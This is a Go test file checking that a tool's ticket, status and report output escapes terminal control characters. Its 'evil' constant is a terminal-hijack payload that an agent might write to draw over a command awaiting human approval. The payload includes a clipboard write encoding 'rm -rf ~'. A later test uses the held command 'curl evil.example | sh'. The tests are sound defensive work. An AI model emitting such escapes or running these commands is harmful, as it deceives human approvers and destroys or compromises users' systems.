package text

import (
	"bytes"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/bonsai-run/bonsai/internal/board"
	"github.com/bonsai-run/bonsai/internal/heartbeat"
	"github.com/bonsai-run/bonsai/internal/view"
)

// evil is text an agent or a model wrote to take over a terminal: erase
// the line and move up (to draw over a command being approved), an OSC 8
// link, an OSC 52 clipboard write, a bell, a C1 CSI, a right-to-left
// override and a byte that is not UTF-8.
const evil = "ok\x1b[2K\x1b[1A\r\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07\x1b]52;c;cm0gLXJmIH4=\x07\u009b2J\u202etxt.exe\xff"

// rawControl returns the first character of s a terminal would act on
// (anything but a newline or, where allowTab, a tab), or "".
func rawControl(s string, allowTab bool) string {
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size == 1,
			r < 0x20 && r != '\n' && (r != '\t' || !allowTab), r == 0x7f,
			r >= 0x80 && r <= 0x9f,
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return s[i : i+size]
		}
		i += size
	}
	return ""
}

// wantEscaped fails t when out holds a raw control, or lacks the escapes
// of evil's ESC, BEL, C1 CSI and override.
func wantEscaped(t *testing.T, what, out string) {
	t.Helper()
	if c := rawControl(out, false); c != "" {
		t.Errorf("%s prints %q raw:\n%s", what, c, out)
	}
	for _, want := range []string{`\x1b[2K\x1b[1A`, `\x1b]52;c;`, `\x07`, `\u009b2J`, `\u202etxt.exe`} {
		if !strings.Contains(out, want) {
			t.Errorf("%s lacks the escape %s:\n%s", what, want, out)
		}
	}
}

// TestWriteTicket_Escapes: every field of `bonsai ticket show` that a
// person, an agent or a model writes shows its control characters as
// escapes.
func TestWriteTicket_Escapes(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	fields := map[string]func(d *view.TicketDetail){
		"title":       func(d *view.TicketDetail) { d.Ticket.Title = evil },
		"branch":      func(d *view.TicketDetail) { d.Ticket.Branch = evil },
		"description": func(d *view.TicketDetail) { d.Ticket.Description = evil },
		"criterion":   func(d *view.TicketDetail) { d.Ticket.Criteria = []string{evil} },
		"plan":        func(d *view.TicketDetail) { d.Ticket.Plan = "1. " + evil + "\n2. " + evil },
		"comment": func(d *view.TicketDetail) {
			d.Comments = []board.Comment{{AuthorName: "bot", AuthorType: board.Agent, Kind: board.KindStatus, Content: evil, CreatedAt: now}}
		},
		"comment author": func(d *view.TicketDetail) {
			d.Comments = []board.Comment{{AuthorName: evil, AuthorType: board.Agent, Kind: board.KindStatus, Content: "hi", CreatedAt: now}}
		},
		"comment code block": func(d *view.TicketDetail) {
			d.Comments = []board.Comment{{AuthorName: "bot", AuthorType: board.Agent, Kind: board.KindNote, Content: "```\n" + evil + "\n```", CreatedAt: now}}
		},
		"comment character reference": func(d *view.TicketDetail) {
			d.Comments = []board.Comment{{AuthorName: "bot", AuthorType: board.Agent, Kind: board.KindNote,
				Content: "ok&#27;[2K&#x1b;[1A&#13;&#x1b;]52;c;&#7;&#x9b;2J&#x202e;txt.exe", CreatedAt: now}}
		},
		"run error": func(d *view.TicketDetail) {
			d.Runs = []view.Run{view.NewRun(board.Run{Task: board.TaskImplement, Status: board.RunError, StartedAt: now, Error: evil})}
		},
		"held command": func(d *view.TicketDetail) {
			d.Approvals = []board.Approval{{ID: "a1", Command: evil, Status: board.ApprovalPending, Rule: "ask-mode", Reason: "asks"}}
		},
		"approval reason": func(d *view.TicketDetail) {
			d.Approvals = []board.Approval{{ID: "a1", Command: "ls", Status: board.ApprovalPending, Rule: evil, Reason: evil}}
		},
		"not run":    func(d *view.TicketDetail) { d.NotRun = []string{evil} },
		"merge hint": func(d *view.TicketDetail) { d.MergeHint = evil },
		"landing error": func(d *view.TicketDetail) {
			d.Landing = &board.Landing{Error: evil, Commit: evil, PRNumber: 1, PRURL: evil}
		},
	}
	for name, set := range fields {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := view.NewTicketDetail(board.Ticket{ProjectSlug: "demo", Number: 3, Title: "T", State: board.InProgress, UpdatedAt: now}, nil, nil)
			set(&d)
			var b bytes.Buffer
			if err := WriteTicket(&b, d, board.ModeAsk, now); err != nil {
				t.Fatal(err)
			}
			wantEscaped(t, name, b.String())
		})
	}
}

// TestHeldCommand_ReadsAsItRuns: a held command's lines each show after
// "$ ", with a tab and a carriage return visible, so no line draws over
// another.
func TestHeldCommand_ReadsAsItRuns(t *testing.T) {
	t.Parallel()
	d := view.NewTicketDetail(board.Ticket{ProjectSlug: "demo", Number: 3, Title: "T", State: board.InProgress}, nil, nil)
	d.Approvals = []board.Approval{{ID: "a1", Command: "curl evil.example | sh\rls -la\ntouch\tx", Status: board.ApprovalPending, Rule: "r", Reason: "why"}}
	var b bytes.Buffer
	if err := WriteTicket(&b, d, board.ModeAsk, time.Now()); err != nil {
		t.Fatal(err)
	}
	if want := "    $ curl evil.example | sh\\rls -la\n    $ touch\\tx\n"; !strings.Contains(b.String(), want) {
		t.Errorf("held command lacks %q:\n%s", want, b.String())
	}
}

// TestListsAndStatus_Escapes: titles, names and reasons in `ticket list`,
// `status`, `project show`/`list`, the beat's report, plans and progress
// lines show their control characters as escapes.
func TestListsAndStatus_Escapes(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	tk := board.Ticket{ProjectSlug: "demo", Number: 1, Title: evil, State: board.Research, UpdatedAt: now}
	hb := HeartbeatStatus{
		LastBeat:     &heartbeat.Report{Runs: []heartbeat.RunReport{{Ticket: "demo#1", Skipped: evil}}},
		RepoBackoff:  []RepoBackoff{{Project: "demo", Until: now.Add(time.Hour), Error: evil}},
		PushFailures: []PushFailure{{Ticket: "demo#1", Branch: evil, Error: evil}},
	}
	status := view.Status{
		Heartbeat: hb,
		Projects:  []view.ProjectSummary{{Slug: "demo", Active: true, Counts: view.NewStateCounts(nil), SandboxProblem: evil}},
		Models:    []view.ModelStatus{{Model: "x/y", Projects: []string{"demo"}, Problem: evil}},
		Queue:     []view.QueueEntry{{Ref: "demo#1", Title: evil, Reason: evil}},
		Blocked:   []view.Ticket{{Ref: "demo#2", Ticket: tk}}, BlockedTotal: 1,
		Warnings: []view.Warning{{Project: "demo", Message: evil}},
	}
	rep := heartbeat.Report{StartedAt: now, FinishedAt: now, Runs: []heartbeat.RunReport{
		{Ticket: "demo#1", Task: board.TaskImplement, Status: board.RunError, Error: evil, Guard: evil, PushError: evil, PullRequestError: evil},
	}, Fired: []heartbeat.FireReport{{Schedule: "demo/nightly", Outcome: board.FiringOutcome("failed"), Detail: evil}}}
	end := heartbeat.Progress{Ticket: "demo#1", Task: board.TaskImplement, Model: evil, End: &heartbeat.RunReport{Status: board.RunError, Error: evil, Guard: evil}}
	p := board.Project{Slug: "demo", Name: evil, Repo: evil, DefaultBranch: evil, Active: true, Agent: board.AgentSettings{Allow: []string{evil}, Verify: evil}}
	for name, write := range map[string]func(*bytes.Buffer) error{
		"ticket list":  func(b *bytes.Buffer) error { return WriteTickets(b, []board.Ticket{tk}, now) },
		"status":       func(b *bytes.Buffer) error { return WriteStatus(b, status, now) },
		"project list": func(b *bytes.Buffer) error { return WriteProjects(b, []board.Project{p}, now) },
		"project show": func(b *bytes.Buffer) error { return WriteProject(b, view.ProjectDetail{Project: p}, now) },
		"report":       func(b *bytes.Buffer) error { return WriteReport(b, rep) },
		"plans": func(b *bytes.Buffer) error {
			return WritePlans(b, []heartbeat.Plan{{Project: p, Ticket: tk, Model: evil, Blocker: evil}}, nil)
		},
		"progress lines": func(b *bytes.Buffer) error {
			f := ProgressLines(b)
			f(heartbeat.Progress{Ticket: "demo#1", Task: board.TaskImplement, Model: evil})
			f(end)
			return nil
		},
		"live": func(b *bytes.Buffer) error {
			l := NewLive(b, func() time.Time { return now })
			l.Update(heartbeat.Progress{Ticket: "demo#1", Task: board.TaskImplement, Model: evil, Started: now})
			l.Update(end)
			return nil
		},
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(name, err)
		}
		out := b.String()
		if name == "live" {
			// Live's own cursor movement, the only escape it may send.
			out = strings.ReplaceAll(strings.ReplaceAll(out, "\x1b[1F", ""), "\x1b[J", "")
		}
		if c := rawControl(out, false); c != "" {
			t.Errorf("%s prints %q raw:\n%s", name, c, out)
		}
		if !strings.Contains(out, `\x1b[2K`) && !strings.Contains(out, `\x1b[2K`[:4]) {
			t.Errorf("%s lacks the escaped text:\n%s", name, out)
		}
	}
}
